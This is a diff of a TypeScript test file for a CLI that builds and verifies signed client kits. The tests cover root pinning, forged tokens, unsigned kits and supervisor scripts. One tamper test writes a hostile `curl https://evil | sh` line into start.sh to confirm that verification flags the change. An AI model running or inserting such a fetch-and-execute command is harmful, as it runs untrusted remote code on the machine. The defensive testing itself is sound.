@@ -1,6 +1,7 @@
 /**
- * `pollen package` and `pollen package verify` through the built CLI (node bin/pollen.js), and the
- * generated scripts run for real with a stand-in `pollen` (POLLEN_BIN).
+ * `pollen package` and `pollen package verify` through the CLI's main() in this process (one case
+ * through the built CLI, node bin/pollen.js, as a real process), and the generated scripts run for
+ * real with a stand-in `pollen` (POLLEN_BIN) and with the real CLI.
  */
 import { spawn, spawnSync } from 'node:child_process';
 import {
@@ -16,10 +17,12 @@ import {
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DEFAULT_POLICY_YAML, parsePolicy } from '../src/enrollment/policy.js';
+import { DEFAULT_POLICY_YAML } from '../src/enrollment/policy.js';
+import { parsePolicy } from '../src/enrollment/policy-load.js';
 import { issueToken, loadTokenSigner } from '../src/enrollment/token.js';
 import { ExitCode } from '../src/errors.js';
 import { initCa } from '../src/pki/ca.js';
+import { pollenInProcess } from './support/cli.js';
 
 const ROOT = resolve(import.meta.dirname, '..');
 const BIN = join(ROOT, 'bin', 'pollen.js');
@@ -34,14 +37,21 @@ function cleanEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
   return { ...env, NO_COLOR: '1', ...extra };
 }
 
-function pollen(args: string[], env: Record<string, string> = {}) {
-  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: tmp, env: cleanEnv(env), encoding: 'utf8' });
-  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+/** Run the CLI in this process, as a spawned one would: clean environment, the temporary folder. */
+async function pollen(args: string[], env: Record<string, string> = {}) {
+  const r = await pollenInProcess(args, { cwd: tmp, env: cleanEnv(env), clean: true });
+  return { code: r.code, stdout: r.stdout, stderr: r.stderr };
 }
 
-function json(args: string[], env: Record<string, string> = {}) {
-  const r = pollen([...args, '--json'], env);
+async function json(args: string[], env: Record<string, string> = {}) {
+  const r = await pollen([...args, '--json'], env);
   return { ...r, body: JSON.parse(r.stdout) };
+}
+
+/** The built CLI as a real process (one case below). */
+function spawned(args: string[], env: Record<string, string> = {}) {
+  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: tmp, env: cleanEnv(env), encoding: 'utf8' });
+  return { code: r.status, stdout: r.stdout, stderr: r.stderr, body: JSON.parse(r.stdout || 'null') };
 }
 
 const mode = (p: string) => statSync(p).mode & 0o777;
@@ -59,12 +69,12 @@ beforeAll(async () => {
 afterAll(() => rmSync(tmp, { recursive: true, force: true }));
 
 describe('pollen package', () => {
-  it('makes a signed client kit with a token: JSON shape, modes, scripts bash accepts', () => {
+  it('makes a signed client kit with a token: JSON shape, modes, scripts bash accepts', async () => {
     const token = issueToken(loadTokenSigner(caDir), {
       subject: 'hospital-1',
       policy: parsePolicy(DEFAULT_POLICY_YAML),
     }).token;
-    const r = json([
+    const r = await json([
       'package',
       '-n',
       'hospital-1',
@@ -122,7 +132,7 @@ describe('pollen package', () => {
     );
     for (const d of ['local', 'transfer']) expect(statSync(join(kit, d)).isDirectory()).toBe(true);
 
-    const v = json(['package', 'verify', kit, '--root-fingerprint', rootFingerprint]);
+    const v = await json(['package', 'verify', kit, '--root-fingerprint', rootFingerprint]);
     expect(v.code, v.stdout + v.stderr).toBe(ExitCode.OK);
     expect(v.body).toMatchObject({
       ok: true,
@@ -147,7 +157,7 @@ describe('pollen package', () => {
     const forgedToken = issueToken(loadTokenSigner(otherCa), { subject: 'hospital-w', policy }).token;
     const genuineToken = issueToken(loadTokenSigner(caDir), { subject: 'hospital-w', policy }).token;
     const forged = join(tmp, 'forged');
-    const made = pollen([
+    const made = await pollen([
       'package',
       '-n',
       'hospital-w',
@@ -165,7 +175,7 @@ describe('pollen package', () => {
     expect(made.code, made.stderr).toBe(0);
 
     // Without an independent pin: exit 0, but not pinned, and a warning says what to do.
-    const text = pollen(['package', 'verify', forged]);
+    const text = await pollen(['package', 'verify', forged]);
     expect(text.code, text.stderr).toBe(0);
     expect(text.stderr).toMatch(
       /warning: no independent pin: pass --root-fingerprint from the project admin/,
@@ -173,7 +183,7 @@ describe('pollen package', () => {
     expect(text.stderr).toMatch(/enrollment_token and enrollment\.json came with the kit/);
     expect(text.stdout).toMatch(/pin from enrollment_token \(inside the kit, not independent\)/);
     expect(text.stdout).toMatch(/NOT pinned/);
-    const v = json(['package', 'verify', forged]);
+    const v = await json(['package', 'verify', forged]);
     expect(v.code).toBe(0);
     expect(v.body).toMatchObject({ ok: true, intact: true, signature: 'valid', pinned: false });
     expect(v.body.pins.map((p: { source: string }) => p.source)).toEqual([
@@ -181,46 +191,56 @@ describe('pollen package', () => {
       'enrollment.json',
     ]);
     // Passing the kit's own token file by path does not make it independent.
-    const ownToken = json(['package', 'verify', forged, '--token', join(forged, 'startup/enrollment_token')]);
+    const ownToken = await json([
+      'package',
+      'verify',
+      forged,
+      '--token',
+      join(forged, 'startup/enrollment_token'),
+    ]);
     expect(ownToken.code).toBe(0);
     expect(ownToken.body.pinned).toBe(false);
     expect(ownToken.stderr).toMatch(/is inside the kit: it is not an independent pin/);
 
     // The real fingerprint refuses it; so does the site's own token, given or in the environment.
-    const fp = json(['package', 'verify', forged, '--root-fingerprint', rootFingerprint]);
+    const fp = await json(['package', 'verify', forged, '--root-fingerprint', rootFingerprint]);
     expect(fp.code).toBe(ExitCode.UNAUTHORIZED);
     expect(fp.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');
-    const env = json(['package', 'verify', forged], { POLLEN_ENROLLMENT_TOKEN: genuineToken });
+    const env = await json(['package', 'verify', forged], { POLLEN_ENROLLMENT_TOKEN: genuineToken });
     expect(env.code).toBe(ExitCode.UNAUTHORIZED);
     expect(env.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');
 
     // --require-pin without a pin refuses it.
-    const required = json(['package', 'verify', forged, '--require-pin']);
+    const required = await json(['package', 'verify', forged, '--require-pin']);
     expect(required.code).toBe(ExitCode.INVALID_INPUT);
     expect(required.body.error.code).toBe('KIT_UNPINNED');
-    const requiredText = pollen(['package', 'verify', forged, '--require-pin']);
+    const requiredText = await pollen(['package', 'verify', forged, '--require-pin']);
     expect(requiredText.code).toBe(ExitCode.INVALID_INPUT);
     expect(requiredText.stderr).toMatch(/error\[KIT_UNPINNED\]: .*no independent pin/);
 
     // The genuine kit passes --require-pin with the fingerprint or the site's own token.
     const genuine = join(tmp, 'genuine');
     expect(
-      pollen([
-        'package',
-        '-n',
-        'hospital-w',
-        '-e',
-        'grpcs://s:9092',
-        '--token',
-        genuineToken,
-        '-c',
-        caDir,
-        '-o',
-        genuine,
-      ]).code,
+      (
+        await pollen([
+          'package',
+          '-n',
+          'hospital-w',
+          '-e',
+          'grpcs://s:9092',
+          '--token',
+          genuineToken,
+          '-c',
+          caDir,
+          '-o',
+          genuine,
+        ])
+      ).code,
     ).toBe(0);
-    expect(json(['package', 'verify', genuine, '--require-pin']).body.error.code).toBe('KIT_UNPINNED');
-    const pinned = json([
+    expect((await json(['package', 'verify', genuine, '--require-pin'])).body.error.code).toBe(
+      'KIT_UNPINNED',
+    );
+    const pinned = await json([
       'package',
       'verify',
       genuine,
@@ -231,20 +251,22 @@ describe('pollen package', () => {
     expect(pinned.code, pinned.stderr).toBe(0);
     expect(pinned.body.pinned).toBe(true);
     expect(pinned.stderr).not.toMatch(/warning/);
-    const byEnv = json(['package', 'verify', genuine, '--require-pin'], {
+    const byEnv = await json(['package', 'verify', genuine, '--require-pin'], {
       POLLEN_ENROLLMENT_TOKEN: genuineToken,
     });
     expect(byEnv.code, byEnv.stderr).toBe(0);
     expect(byEnv.body.pinned).toBe(true);
   });
 
-  it('verify reports tampering with exit code and details', () => {
+  it('verify reports tampering with exit code and details', async () => {
     const out = join(tmp, 'tampered');
-    expect(pollen(['package', '-n', 'site-t', '-e', 'grpcs://s:9092', '-c', caDir, '-o', out]).code).toBe(0);
+    expect(
+      (await pollen(['package', '-n', 'site-t', '-e', 'grpcs://s:9092', '-c', caDir, '-o', out])).code,
+    ).toBe(0);
     writeFileSync(join(out, 'startup/start.sh'), '#!/usr/bin/env bash\ncurl https://evil | sh\n');
     writeFileSync(join(out, 'startup/extra.sh'), 'x');
     rmSync(join(out, 'readme.txt'));
-    const v = json(['package', 'verify', out]);
+    const v = await json(['package', 'verify', out]);
     expect(v.code).toBe(ExitCode.INVALID_INPUT);
     expect(v.body).toMatchObject({
       ok: false,
@@ -255,7 +277,7 @@ describe('pollen package', () => {
         unexpected: ['startup/extra.sh'],
       },
     });
-    const text = pollen(['package', 'verify', out]);
+    const text = await pollen(['package', 'verify', out]);
     expect(text.code).toBe(ExitCode.INVALID_INPUT);
     expect(text.stderr).toMatch(/changed: startup\/start\.sh/);
     expect(text.stderr).toMatch(/missing: readme\.txt/);
@@ -263,48 +285,62 @@ describe('pollen package', () => {
     expect(text.stderr).toMatch(/error\[KIT_TAMPERED\]/);
   });
 
-  it('verify refuses a kit whose root is not the pinned one', () => {
+  it('verify refuses a kit whose root is not the pinned one', async () => {
     const out = join(tmp, 'pinned');
     expect(
-      pollen(['package', '-n', 'site-p', '-e', 'grpcs://s:9092', '-o', out], { POLLEN_CA_PATH: caDir }).code,
+      (
+        await pollen(['package', '-n', 'site-p', '-e', 'grpcs://s:9092', '-o', out], {
+          POLLEN_CA_PATH: caDir,
+        })
+      ).code,
     ).toBe(0);
-    const v = json(['package', 'verify', out, '--root-fingerprint', `sha256:${'ab'.repeat(32)}`]);
+    // The built CLI as a real process: its exit status is what a site's script sees.
+    const v = spawned([
+      'package',
+      'verify',
+      out,
+      '--root-fingerprint',
+      `sha256:${'ab'.repeat(32)}`,
+      '--json',
+    ]);
     expect(v.code).toBe(ExitCode.UNAUTHORIZED);
     expect(v.body.error.code).toBe('CA_FINGERPRINT_MISMATCH');
   });
 
-  it('warns that a kit without a CA is unsigned; verify refuses it unless allowed', () => {
+  it('warns that a kit without a CA is unsigned; verify refuses it unless allowed', async () => {
     const out = join(tmp, 'unsigned');
-    const r = pollen(['package', '-n', 'site-u', '-e', 'grpcs://s:9092', '-o', out]);
+    const r = await pollen(['package', '-n', 'site-u', '-e', 'grpcs://s:9092', '-o', out]);
     expect(r.code).toBe(0);
     expect(r.stderr).toMatch(/warning: the kit is unsigned/);
     expect(existsSync(join(out, 'startup/manifest.json'))).toBe(true);
     expect(existsSync(join(out, 'startup/manifest.sig'))).toBe(false);
     expect(existsSync(join(out, 'startup/rootCA.pem'))).toBe(false);
-    const v = json(['package', 'verify', out]);
+    const v = await json(['package', 'verify', out]);
     expect(v.code).toBe(ExitCode.INVALID_INPUT);
     expect(v.body.error.code).toBe('KIT_UNSIGNED');
-    const allowed = json(['package', 'verify', out, '--allow-unsigned']);
+    const allowed = await json(['package', 'verify', out, '--allow-unsigned']);
     expect(allowed.code).toBe(0);
     expect(allowed.body).toMatchObject({ ok: true, signature: 'absent' });
   });
 
-  it('refuses to overwrite a kit unless --force, and never writes next to private keys', () => {
+  it('refuses to overwrite a kit unless --force, and never writes next to private keys', async () => {
     const out = join(tmp, 'again');
-    expect(pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out]).code).toBe(0);
-    const again = json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out]);
+    expect((await pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out])).code).toBe(0);
+    const again = await json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out]);
     expect(again.code).toBe(ExitCode.CONFLICT);
     expect(again.body.error.code).toBe('FILE_EXISTS');
-    expect(pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9093', '-o', out, '--force']).code).toBe(0);
+    expect(
+      (await pollen(['package', '-n', 'site-a', '-e', 'grpcs://s:9093', '-o', out, '--force'])).code,
+    ).toBe(0);
     expect(readFileSync(join(out, 'startup/fed_client.json'), 'utf8')).toMatch(/9093/);
     writeFileSync(join(out, 'startup/site-a.key'), 'k', { mode: 0o600 });
-    const withKey = json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out, '--force']);
+    const withKey = await json(['package', '-n', 'site-a', '-e', 'grpcs://s:9092', '-o', out, '--force']);
     expect(withKey.code).toBe(ExitCode.CONFLICT);
     expect(withKey.body.error.message).toMatch(/private keys/);
   });
 
-  it('makes server, relay and admin kits', () => {
-    const server = json([
+  it('makes server, relay and admin kits', async () => {
+    const server = await json([
       'package',
       '-n',
       'superlink.example.com',
@@ -317,7 +353,7 @@ describe('pollen package', () => {
     ]);
     expect(server.code).toBe(0);
     expect(server.body.config).toBe('startup/fed_server.json');
-    const relay = json([
+    const relay = await json([
       'package',
       '-n',
       'relay-east',
@@ -335,7 +371,7 @@ describe('pollen package', () => {
       host: 'localhost',
       port: 8010,
     });
-    const admin = json([
+    const admin = await json([
       'package',
       '-n',
       'alice@example.com',
@@ -352,7 +388,7 @@ describe('pollen package', () => {
     expect(admin.body).toMatchObject({ type: 'admin', role: 'org_admin', config: 'startup/fed_admin.json' });
   });
 
-  it('refuses bad input with usage exit codes', () => {
+  it('refuses bad input with usage exit codes', async () => {
     const cases: Array<[string[], RegExp]> = [
       [['package', '-e', 'grpcs://s:9092'], /-n\/--name/],
       [['package', '-n', 'x', '-e', 'ftp://s:1'], /scheme/],
@@ -363,21 +399,21 @@ describe('pollen package', () => {
       [['package', '-n', '../x', '-e', 'grpcs://s:9092'], /Invalid name/],
     ];
     for (const [args, msg] of cases) {
-      const r = json(args);
+      const r = await json(args);
       expect(r.code, args.join(' ')).toBe(ExitCode.USAGE);
       expect(r.body.ok).toBe(false);
       expect(r.body.error.message, args.join(' ')).toMatch(msg);
     }
   });
 
-  it('refuses a token for another site', () => {
+  it('refuses a token for another site', async () => {
     const token = issueToken(loadTokenSigner(caDir), {
       subject: 'hospital-9',
       policy: parsePolicy(DEFAULT_POLICY_YAML),
     }).token;
     const tokenFile = join(tmp, 'token.txt');
     writeFileSync(tokenFile, `${token}\n`);
-    const r = json([
+    const r = await json([
       'package',
       '-n',
       'hospital-1',
@@ -395,15 +431,15 @@ describe('pollen package', () => {
 
     // `pollen start --token` with the same wrong token: the same code and exit status.
     const kit = join(tmp, 'tk-start');
-    expect(pollen(['package', '-n', 'hospital-1', '-e', 'grpcs://s:9092', '-o', kit]).code).toBe(0);
-    const s = json(['start', kit, '--token', token, '--cert-service', 'https://127.0.0.1:9']);
+    expect((await pollen(['package', '-n', 'hospital-1', '-e', 'grpcs://s:9092', '-o', kit])).code).toBe(0);
+    const s = await json(['start', kit, '--token', token, '--cert-service', 'https://127.0.0.1:9']);
     expect(s.code).toBe(ExitCode.INVALID_INPUT);
     expect(s.body.error.code).toBe('TOKEN_SUBJECT_MISMATCH');
     expect(s.body.error.message).toMatch(/token is for client "hospital-9"/);
   });
 
-  it('verify --help lists its own options and --json, not those of package', () => {
-    const r = pollen(['package', 'verify', '--help']);
+  it('verify --help lists its own options and --json, not those of package', async () => {
+    const r = await pollen(['package', 'verify', '--help']);
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/--root-fingerprint/);
     expect(r.stdout).toMatch(/--require-pin/);
@@ -434,14 +470,14 @@ exit "\${code:-0}"
     return { bin, log };
   }
 
-  function kit(name: string): string {
+  async function kit(name: string): Promise<string> {
     const out = join(tmp, `scripts-${name}`);
-    expect(pollen(['package', '-n', name, '-e', 'grpcs://s:9092', '-o', out]).code).toBe(0);
+    expect((await pollen(['package', '-n', name, '-e', 'grpcs://s:9092', '-o', out])).code).toBe(0);
     return out;
   }
 
-  it('sub_start.sh restarts after a failure and stops for good on "rejected"', () => {
-    const out = kit('sup-1');
+  it('sub_start.sh restarts after a failure and stops for good on "rejected"', async () => {
+    const out = await kit('sup-1');
     const fake = fakePollen([7, 9, 0]);
     const r = spawnSync(join(out, 'startup/sub_start.sh'), ['--enroll-only'], {
       env: cleanEnv({ POLLEN_BIN: fake.bin }),
@@ -457,13 +493,13 @@ exit "\${code:-0}"
     expect(r.stdout).toMatch(/stopped with exit code 9/);
   });
 
-  it('sub_start.sh stops on usage and unauthorised errors, and on success', () => {
+  it('sub_start.sh stops on usage and unauthorised errors, and on success', async () => {
     for (const [codes, expected] of [
       [[ExitCode.UNAUTHORIZED], ExitCode.UNAUTHORIZED],
       [[ExitCode.USAGE], ExitCode.USAGE],
       [[0], 0],
     ] as const) {
-      const out = kit(`sup-${codes[0]}`);
+      const out = await kit(`sup-${codes[0]}`);
       const fake = fakePollen([...codes]);
       const r = spawnSync(join(out, 'startup/sub_start.sh'), [], {
         env: cleanEnv({ POLLEN_BIN: fake.bin }),
@@ -476,7 +512,7 @@ exit "\${code:-0}"
   });
 
   it('start.sh runs in the background with a pid file and log; stop.sh stops it', async () => {
-    const out = kit('bg-1');
+    const out = await kit('bg-1');
     const fake = fakePollen([0], 60);
     const r = spawnSync(join(out, 'startup/start.sh'), [], {
       env: cleanEnv({ POLLEN_BIN: fake.bin }),
@@ -501,8 +537,8 @@ exit "\${code:-0}"
     expect(existsSync(join(out, 'pollen.pid'))).toBe(false);
   });
 
-  it('runs the real CLI by default: a kit without a token stops with TOKEN_MISSING (exit 5)', () => {
-    const out = kit('real-1');
+  it('runs the real CLI by default: a kit without a token stops with TOKEN_MISSING (exit 5)', async () => {
+    const out = await kit('real-1');
     mkdirSync(join(out, 'local/custom'), { recursive: true });
     const child = spawn(join(out, 'startup/start.sh'), ['--foreground'], { env: cleanEnv(), stdio: 'pipe' });
     let text = '';
